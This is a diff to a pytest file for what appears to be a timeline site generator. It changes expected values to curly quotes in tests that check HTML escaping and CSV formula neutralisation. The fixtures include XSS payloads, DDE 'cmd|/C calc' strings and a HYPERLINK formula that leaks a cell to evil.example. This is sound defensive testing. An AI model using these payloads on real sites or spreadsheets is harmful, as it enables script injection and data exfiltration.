@@ -37,12 +37,12 @@ def built(project: Path, capsys: pytest.CaptureFixture[str], name: str) -> Path:
 
 
 # TimelineJS reads headlines, groups and text as HTML: what the content says must be shown, not run.
-# (fixture, where in timeline.json, the escaped text expected there)
+# (fixture, where in timeline.json, the escaped text expected there; its quote marks typeset, curly)
 TIMELINE_CASES = [
-    ("html-in-title.md", "headline", "&lt;img src=x onerror=alert(1)&gt; &amp; &#x27;Lavrov&#x27; &lt;b&gt;talks&lt;/b&gt;"),
+    ("html-in-title.md", "headline", "&lt;img src=x onerror=alert(1)&gt; &amp; ‘Lavrov’ &lt;b&gt;talks&lt;/b&gt;"),
     ("html-in-era-name.yaml", "era", "&lt;script&gt;alert(1)&lt;/script&gt; A new century"),
     ("html-in-era-name.yaml", "group", "&lt;script&gt;alert(1)&lt;/script&gt; A new century"),
-    ("html-in-site-title.yaml", "title", "&lt;b&gt;Fixture&lt;/b&gt; &amp; &#x27;Chronology&#x27;"),
+    ("html-in-site-title.yaml", "title", "&lt;b&gt;Fixture&lt;/b&gt; &amp; ‘Chronology’"),
     ("html-in-site-title.yaml", "title", "&lt;img src=x onerror=alert(1)&gt; A small site."),
 ]
 
@@ -67,12 +67,12 @@ def test_timelinejs_text_is_escaped(
 
 
 # A spreadsheet runs a cell that starts with = + - @ as a formula: such a cell gets a leading '.
-# (fixture, column, the cell expected for its event)
+# (fixture, column, the cell expected for its event, its quote marks typeset)
 CSV_CASES = [
-    ("formula-in-summary.md", "summary", "'=HYPERLINK(\"https://evil.example/?leak=\"&A1, \"Sources\")"),
-    ("plus-in-title.md", "title", "'+cmd|' /C calc'!A0"),
-    ("minus-in-title.md", "title", "'-2+3+cmd|' /C calc'!A0"),
-    ("at-in-summary.md", "summary", "'@SUM(1+9)*cmd|' /C calc'!A0"),
+    ("formula-in-summary.md", "summary", "'=HYPERLINK(“https://evil.example/?leak=”&A1, “Sources”)"),
+    ("plus-in-title.md", "title", "'+cmd|’ /C calc’!A0"),
+    ("minus-in-title.md", "title", "'-2+3+cmd|’ /C calc’!A0"),
+    ("at-in-summary.md", "summary", "'@SUM(1+9)*cmd|’ /C calc’!A0"),
     ("formula-characters-inside.md", "title", "Talks: 2 + 2 = 4 @ Islamabad - notes"),  # not at the start: untouched
     ("formula-characters-inside.md", "summary", "Prices -5% and +3%, agreed @ Islamabad = progress."),
 ]  # fmt: skip
@@ -114,7 +114,7 @@ def test_csv_cell(value: str, expected: str) -> None:
 # the validator: see the control-character fixtures of test_bad_input.py; the feed's own defence
 # is tested below without it.) (fixture, the entry's title and summary as a feed reader reads them)
 FEED_CASES = [
-    ("html-in-title.md", "8 April 2021: <img src=x onerror=alert(1)> & 'Lavrov' <b>talks</b>", "Talks in Islamabad."),
+    ("html-in-title.md", "8 April 2021: <img src=x onerror=alert(1)> & ‘Lavrov’ <b>talks</b>", "Talks in Islamabad."),
 ]
 
 
